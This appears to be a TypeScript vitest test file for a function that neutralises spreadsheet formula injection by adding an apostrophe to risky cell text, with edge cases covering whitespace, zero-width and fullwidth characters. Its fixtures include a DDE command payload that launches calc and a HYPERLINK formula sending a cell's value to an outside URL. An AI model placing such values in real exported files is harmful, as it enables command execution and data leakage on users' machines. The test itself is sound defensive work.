import { expect, test } from 'vitest'
import { defused, withoutDefusing } from './formula.ts'

const FORMULAS = [
  '=1+1',
  '+1',
  '-1',
  '@SUM(A1)',
  '|calc',
  "=cmd|'/c calc'!A1",
  '=HYPERLINK("https://a.example?"&A1)\nsecond line',
  '\t=1',
  '\r=1',
  '\n=1',
  '\n+1',
  '  =1',
  '\u00A0=1',
  '\u200B=1',
  '\uFEFF=1',
  '\u0000=1',
  '\tno sign',
  '\nno sign',
  '\rno sign',
  '＝1+1',
  '＋1',
  '－1',
  '＠SUM(A1)',
  '｜calc',
]

test.each(FORMULAS)('%j gets an apostrophe, and is read as it was', (text) => {
  expect(defused(text)).toBe(`'${text}`)
  expect(withoutDefusing(defused(text))).toBe(text)
})

test.each([
  'left side',
  '2 = two',
  "it's fine",
  "'quoted'",
  '0.25',
  '2026-11-21T20:00:00+01:00',
  'a\n=b',
  '',
  '🧪 = new',
])('%j stays as it is', (text) => {
  expect(defused(text)).toBe(text)
  expect(withoutDefusing(text)).toBe(text)
})
